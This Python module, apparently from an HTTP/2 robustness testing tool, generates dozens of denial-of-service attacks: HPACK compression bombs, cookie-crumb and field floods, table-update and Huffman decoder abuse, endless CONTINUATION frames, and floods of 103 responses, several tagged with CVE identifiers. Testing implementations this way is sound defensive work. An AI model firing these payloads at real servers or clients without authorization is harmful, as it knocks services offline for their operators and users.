"""Field blocks: HPACK bombs, many fields, expensive fields, endless CONTINUATION."""

from __future__ import annotations

import random
from itertools import count, islice

from . import wire
from .attack import Frames, Role, attack
from .messages import (
    AUTHORITY,
    GET,
    METHOD_GET,
    PATH_ROOT,
    POST,
    SCHEME_HTTPS,
    request_without_table,
    response_without_table,
)
from .streams import MANY
from .wire import indexed, literal

BOTH: tuple[Role, ...] = ("server", "client")
BOMB, CRUMBS, FLOOD = "CVE-2016-6581", "CVE-2026-49975", "VU#421644"
NEWEST = indexed(62)  # of the dynamic table
#: Fields that make a message as long as ordinary ones.
MARK = literal(b"x-request-id", b"0123456789abcdef") + literal(b"x-trace", b"0123456789abcdef")
HINT = literal(b"link", b"</style.css>; rel=preload; as=style")
#: Requests in a read, to stay below the stream limit.
REQUESTS = 50
ENTRY = 3900  # octets of a value that, with its name, fits into the table
COOKIE, CONTENT_LENGTH, ACCEPT_ENCODING = 32, 28, 16


def _blocks(
    name: str,
    words: str,
    again: bytes,
    first: bytes | None = None,
    *,
    cve: str = "",
    victims: tuple[Role, ...] = BOTH,
    valid: bool = False,
) -> None:
    """Fields of requests, and of responses: `first` in the first message, `again` in all others."""

    def to_server() -> Frames:
        for stream_id in wire.odd_numbers():
            extra = again if stream_id > 1 or first is None else first
            yield from split(stream_id, request_without_table(stream_id) + extra)

    def to_client() -> Frames:
        for stream_id in islice(wire.odd_numbers(), MANY):
            extra = again if stream_id > 1 or first is None else first
            yield from split(stream_id, response_without_table(stream_id) + extra)

    if "server" in victims:
        attack(name, words, ("server",), cve=cve, batch=REQUESTS, valid=valid)(to_server)
    if "client" in victims:
        attack(name, words, ("client",), cve=cve, streams=MANY, valid=valid)(to_client)


def split(stream_id: int, fields: bytes, size: int = 16384) -> Frames:
    """A message without content, in as few frames as it needs."""
    pieces = [fields[at : at + size] for at in range(0, len(fields), size)]
    frames = wire.headers(stream_id, pieces[0], end=True, whole=len(pieces) == 1)
    for number, piece in enumerate(pieces[1:], 2):
        frames += wire.continuation(stream_id, piece, whole=number == len(pieces))
    yield frames


# Values that are expensive each time they are checked.

_blocks(
    "content-length-digits",
    "4,000 digits of content-length in the table, referenced",
    NEWEST,
    literal(CONTENT_LENGTH, b"9" * 4000, add=True),
)
_blocks(
    "content-length-zeros",
    "content-length with 4,000 leading zeros in the table, referenced",
    NEWEST,
    literal(CONTENT_LENGTH, b"0" * 4000, add=True),
)
_blocks(
    "content-length-literal",
    "16,000 digits of content-length",
    literal(CONTENT_LENGTH, b"9" * 16000),
)
_blocks(
    "content-length-19",
    "19 digits of content-length in the table, referenced",
    NEWEST,
    literal(CONTENT_LENGTH, b"9" * 19, add=True),
    victims=("client",),
)
_blocks(
    "content-length-twice",
    "the same 4,000 digits twice in each message",
    NEWEST * 2,
    literal(CONTENT_LENGTH, b"0" * 4000, add=True),
)
_blocks(
    "large-value",
    "a value of 3,900 octets in the table, referenced once",
    NEWEST,
    literal(b"x", b"v" * ENTRY, add=True),
    cve=BOMB,
)
_blocks(
    "large-value-15",
    "the same, referenced 15 times",
    NEWEST * 15,
    literal(b"x", b"v" * ENTRY, add=True),
    cve=BOMB,
)
_blocks(
    "large-value-1000",
    "the same, referenced a thousand times",
    NEWEST * 1000,
    literal(b"x", b"v" * ENTRY, add=True),
    cve=BOMB,
)
_blocks(
    "large-value-16000",
    "the same, referenced 16,000 times",
    NEWEST * 16000,
    literal(b"x", b"v" * ENTRY, add=True),
    cve=BOMB,
)
_blocks(
    "large-name",
    "a name of 3,900 octets in the table, with new values",
    literal(62, b"a") * 10,
    literal(b"n" * ENTRY, b"", add=True),
    cve=BOMB,
)
_blocks(
    "medium-values",
    "60 values in the table, all referenced",
    b"".join(map(indexed, range(62, 96))),
    b"".join(literal(b"x%02d" % n, b"v" * 85, add=True) for n in range(34)),
    cve=BOMB,
)
_blocks(
    "cookie-1",
    "a cookie of 3,900 octets in the table, referenced once",
    NEWEST,
    literal(COOKIE, b"c" * ENTRY, add=True),
    cve=CRUMBS,
)
_blocks(
    "cookie-15",
    "a cookie of 3,900 octets in the table, referenced 15 times",
    NEWEST * 15,
    literal(COOKIE, b"c" * ENTRY, add=True),
    cve=CRUMBS,
)
_blocks(
    "cookie-2",
    "a cookie of 3,900 octets in the table, referenced twice",
    NEWEST * 2,
    literal(COOKIE, b"c" * ENTRY, add=True),
    cve=CRUMBS,
)
_blocks(
    "cookie-small",
    "a cookie of 32 octets in the table, referenced 500 times",
    NEWEST * 500,
    literal(COOKIE, b"c" * 32, add=True),
    cve=CRUMBS,
)
_blocks(
    "crumbs-empty",
    "1,700 empty crumbs of a cookie, an octet each",
    indexed(COOKIE) * 1700,
    cve=CRUMBS,
)
_blocks(
    "crumbs-100",
    "100 crumbs of a cookie from the table",
    NEWEST * 100,
    literal(COOKIE, b"a=b", add=True),
    cve=CRUMBS,
)
_blocks("crumbs-16000", "16,000 empty crumbs of a cookie", indexed(COOKIE) * 16000, cve=CRUMBS)
_blocks(
    "crumbs-literal",
    "1,500 crumbs of a cookie as literals",
    literal(COOKIE, b"a=b") * 1500,
    cve=CRUMBS,
)
_blocks("fields-1000", "1,000 fields, an octet each", indexed(ACCEPT_ENCODING) * 1000, cve=CRUMBS)
_blocks("fields-100", "100 fields, an octet each", indexed(ACCEPT_ENCODING) * 100, cve=CRUMBS)
_blocks("fields-1900", "1,900 fields of the smallest size", literal(b"a", b"") * 1900, cve=CRUMBS)
_blocks(
    "fields-120",
    "120 fields of the smallest size",
    literal(b"a", b"") * 120,
    cve=CRUMBS,
    valid=True,
)
_blocks(
    "fields-list-limit", "a header list one field below 64 KiB", literal(b"x", b"v" * 1000) * 60
)
_blocks("fields-above-limit", "a header list just above 64 KiB", literal(b"x", b"v" * 1000) * 66)


# The compression table.


def _beginning(name: str, words: str, before: bytes, *, cve: str = "CVE-2022-41723") -> None:
    """Blocks that begin with table size updates."""

    def to_server() -> Frames:
        for stream_id in wire.odd_numbers():
            yield wire.headers(stream_id, before + request_without_table(stream_id), end=True)

    def to_client() -> Frames:
        for stream_id in islice(wire.odd_numbers(), MANY):
            yield wire.headers(stream_id, before + response_without_table(stream_id), end=True)

    attack(name, words, ("server",), cve=cve, batch=REQUESTS)(to_server)
    attack(name, words, ("client",), cve=cve, streams=MANY)(to_client)


_UPDATES = wire.table_size_update(0) + wire.table_size_update(4096)
_beginning("table-updates", "two table size updates in each block", _UPDATES)
_beginning("table-updates-many", "8,000 table size updates in each block", _UPDATES * 4000)
_beginning("table-update-long", "a table size update of many octets", b"\x3f" + b"\x80" * 16000)
_beginning("integer-large", "an index of 2**70", b"\xff" + b"\xff" * 10 + b"\x01")
_beginning("index-zero", "an index of 0", b"\x80", cve="")
_blocks(
    "table-churn",
    "an entry of 3,900 octets added in each message",
    literal(b"x", b"v" * ENTRY, add=True),
)
_blocks(
    "table-churn-small",
    "60 small entries added in each message",
    literal(b"a", b"", add=True) * 60,
    valid=True,
)
_blocks(
    "table-churn-1900",
    "1,900 small entries added in each message",
    literal(b"a", b"", add=True) * 1900,
    cve=CRUMBS,
)
_blocks(
    "table-oversize",
    "an entry that is larger than the table, in each message",
    literal(b"x", b"v" * 5000, add=True),
)
_blocks("name-empty", "an empty name", literal(b"", b"x"), cve="CVE-2019-9516")
_blocks(
    "names-empty", "500 empty names with empty values", literal(b"", b"") * 500, cve="CVE-2019-9516"
)
_blocks(
    "status-digits",
    "a :status of 4,000 digits in the table, referenced",
    NEWEST,
    literal(8, b"2" * 4000, add=True),
)


# Huffman code.


def _coded(text: bytes) -> bytes:
    """A literal whose value is in Huffman code."""
    return literal(b"x", b"")[:-1] + wire.huffman(text)


_blocks("huffman-short-codes", "50,000 octets in Huffman code, the shortest", _coded(b"0" * 50_000))
_blocks("huffman-long-codes", "4,000 octets in Huffman code, the longest", _coded(b"\xfe" * 4000))
_blocks(
    "huffman-no-end",
    "16 KB of Huffman code that ends in the middle",
    literal(b"x", b"")[:-1] + wire.integer(16000, 7, 0x80) + b"\xff" * 16000,
)


def _random_texts(name: str, words: str, octets: bytes) -> None:
    """Requests with Huffman code of texts at random."""

    def frames() -> Frames:
        draw = random.Random(7541)
        for stream_id in wire.odd_numbers():
            text = bytes(draw.choices(octets, k=4000))
            yield wire.headers(stream_id, GET + _coded(text), end=True)

    attack(name, words, cve="CVE-2022-41723", batch=REQUESTS)(frames)


_VISIBLE = bytes(range(0x21, 0x7F))
_random_texts(
    "huffman-states",
    "Huffman code of octets at random, to reach all states of the decoder",
    _VISIBLE + bytes(range(0x80, 0x100)),
)
_random_texts(
    "huffman-visible",
    "Huffman code of visible characters at random, to fill the tables of the decoder",
    _VISIBLE,
)


@attack("huffman-garbage", "field blocks of octets at random", BOTH, streams=1)
def garbage() -> Frames:
    draw = random.Random(7541)
    for stream_id in wire.odd_numbers():
        yield wire.headers(stream_id, draw.randbytes(1000), end=True)


# CONTINUATION.


def _continued(name: str, words: str, piece: bytes, *, begin: bytes = b"") -> None:
    """A field block that never ends."""

    def frames() -> Frames:
        yield wire.headers(1, begin, whole=False)
        while True:
            yield wire.continuation(1, piece)

    attack(name, words, BOTH, cve=FLOOD, streams=1)(frames)


# A server under attack already has stream 1 open, so the block is one of trailers.
_continued("continuation-empty", "empty CONTINUATION frames, without end", b"")
_continued("continuation-1", "CONTINUATION of one octet, without end", indexed(ACCEPT_ENCODING))
_continued("continuation-large", "CONTINUATION of 16 KB, without end", b"\0" * 16384)
_continued(
    "continuation-fields",
    "CONTINUATION with many fields, without end",
    indexed(ACCEPT_ENCODING) * 16384,
)


@attack("continuation-request", "a request in CONTINUATION frames without end", cve=FLOOD)
def continued_request() -> Frames:
    yield wire.headers(1, GET, whole=False)
    while True:
        yield wire.continuation(1, literal(b"x", b"y"))


@attack("continuation-60", "requests, each in 60 frames", cve=FLOOD, batch=REQUESTS)
def continued_requests() -> Frames:
    for stream_id in wire.odd_numbers():
        yield wire.headers(stream_id, GET, end=True, whole=False)
        yield wire.continuation(stream_id, b"") * 58
        yield wire.continuation(stream_id, whole=True)


@attack("continuation-interleaved", "another frame within a field block", BOTH, streams=1)
def interleaved() -> Frames:
    yield wire.headers(1, b"", whole=False) + wire.ping()
    while True:
        yield wire.continuation(1)


@attack("headers-empty", "HEADERS without fields", BOTH, streams=1)
def headers_empty() -> Frames:
    for stream_id in wire.odd_numbers(3):
        yield wire.headers(stream_id, b"")


# Many field blocks on one stream.


@attack(
    "informational", "responses of status 103 without end on one stream", ("client",), streams=1
)
def informational() -> Frames:
    while True:
        yield wire.headers(1, literal(8, b"103"))


@attack(
    "informational-large",
    "responses of status 103 with large fields from the table",
    ("client",),
    streams=1,
    cve=BOMB,
)
def informational_large() -> Frames:
    yield wire.headers(1, literal(8, b"103") + literal(b"link", b"v" * ENTRY, add=True))
    while True:
        yield wire.headers(1, literal(8, b"103") + NEWEST * 15)


@attack(
    "informational-reset",
    "responses of status 103 on many streams, each reset",
    ("client",),
    streams=MANY,
)
def informational_reset() -> Frames:
    for stream_id in islice(wire.odd_numbers(), MANY):
        yield wire.headers(stream_id, literal(8, b"103") + HINT) + wire.rst_stream(stream_id)


@attack(
    "trailers",
    "requests with trailers, a hundred fields from the table each",
    batch=REQUESTS,
    valid=True,
)
def trailers() -> Frames:
    for stream_id in wire.odd_numbers():
        yield wire.headers(stream_id, POST)
        yield wire.headers(stream_id, indexed(ACCEPT_ENCODING) * 100, end=True)


@attack(
    "path-large",
    "requests with a path of 3,900 octets from the table",
    cve=BOMB,
    batch=REQUESTS,
    valid=True,
)
def large_path() -> Frames:
    rest = METHOD_GET + SCHEME_HTTPS + AUTHORITY
    path = literal(4, b"/" + b"p" * ENTRY, add=True)
    for stream_id in wire.odd_numbers():
        fields = rest + (NEWEST if stream_id > 1 else path) + MARK
        yield wire.headers(stream_id, fields, end=True)


@attack(
    "authority-large",
    "requests with :authority and host of 1,900 octets from the table",
    batch=REQUESTS,
    valid=True,
)
def large_authority() -> Frames:
    rest = METHOD_GET + SCHEME_HTTPS + PATH_ROOT
    both = literal(1, b"a" * 1900, add=True) + literal(38, b"a" * 1900, add=True)
    for stream_id in wire.odd_numbers():
        fields = indexed(63) + indexed(62) if stream_id > 1 else both
        order = fields[:-1] + rest + fields[-1:] if stream_id > 1 else rest + fields
        yield wire.headers(stream_id, order + MARK, end=True)


@attack("reset-and-bomb", "large fields from the table, each request reset at once", cve=BOMB)
def reset_and_bomb() -> Frames:
    first = literal(b"x", b"v" * ENTRY, add=True)
    for stream_id in wire.odd_numbers():
        fields = GET + (NEWEST * 15 if stream_id > 1 else first)
        yield wire.headers(stream_id, fields, end=True) + wire.rst_stream(stream_id)


@attack("refused-and-bomb", "large fields from the table on streams above the limit", cve=BOMB)
def refused_and_bomb() -> Frames:
    first = literal(b"x", b"v" * ENTRY, add=True)
    for stream_id in wire.odd_numbers():
        yield wire.headers(stream_id, POST + (NEWEST * 15 if stream_id > 1 else first))


@attack(
    "trailers-and-bomb",
    "large fields from the table on a stream that has ended",
    BOTH,
    cve=BOMB,
    streams=1,
)
def trailers_and_bomb() -> Frames:
    yield wire.headers(1, literal(b"x", b"v" * ENTRY, add=True), end=True)
    for _ in count():
        yield wire.headers(1, NEWEST * 15, end=True)
